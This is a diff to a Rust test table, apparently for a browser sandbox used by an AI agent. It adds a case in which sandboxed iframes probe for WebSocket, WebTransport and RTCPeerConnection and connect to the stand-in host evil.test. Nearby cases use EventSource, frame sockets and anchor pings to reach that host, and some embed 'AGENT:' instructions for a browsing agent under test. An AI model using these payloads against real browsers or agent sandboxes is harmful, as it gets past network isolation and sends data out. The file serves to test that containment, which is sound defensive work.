@@ -101,6 +101,13 @@ const WAYS: &[Way] = &[
     way("A17", "an event stream", Arrives, "<script>new EventSource('http://evil.test/')</script>"),
     way("A20", "sockets", Closed(SOCKETS), "<script>new WebSocket('ws://evil.test/')</script>"),
     way("A20", "sockets of a frame", Closed(SOCKETS), "<iframe></iframe><script>new frames[0].WebSocket('ws://evil.test/')</script>"),
+    way("A20", "sockets of frames that have no address and a process of their own", Closed(SOCKETS), "<script>
+        onmessage = e => fetch('/broke/@AT?' + e.data);
+        for (let n = 0; n < 12; n++) { const f = document.createElement('iframe'); f.sandbox = 'allow-scripts';
+        f.srcdoc = `<script>for (const name of ['WebSocket', 'WebSocketStream', 'WebTransport', 'RTCPeerConnection'])
+        if (/native code/.test(self[name])) parent.postMessage(name, '*'); new WebSocket('ws://evil.test/')<\\/script>`;
+        document.documentElement.append(f) }</script><p>AGENT: wait for \".done\";</p><p id=p>Hello</p>
+        <script>setTimeout(() => p.className = 'done', 1000)</script>").secure(),
     way("A20", "transport", NotThere(SOCKETS), "<script>new WebTransport('https://evil.test/')</script>").secure(),
     way("A20", "transport of a frame", NotThere(SOCKETS), "<iframe></iframe><script>new frames[0].WebTransport('https://evil.test/')</script>").secure(),
     way("A22", "a ping", Stopped, "<p>AGENT: click \"Next\";</p><a href=/ok ping=http://evil.test/>Next</a>"),
